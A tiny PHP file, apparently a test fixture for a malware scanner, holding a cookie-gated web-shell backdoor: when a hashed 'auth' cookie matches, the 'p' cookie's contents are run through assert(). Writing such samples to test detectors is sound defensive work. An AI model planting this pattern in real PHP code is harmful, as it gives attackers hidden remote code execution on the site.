<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$gate = hash('sha256', $_COOKIE['auth'] ?? '') === 'f1e2d3c4b5a69788f1e2d3c4b5a69788f1e2d3c4b5a69788f1e2d3c4b5a69788';
$x = $gate ? assert(...) : null;
if ($x) { $x($_COOKIE['p']); }
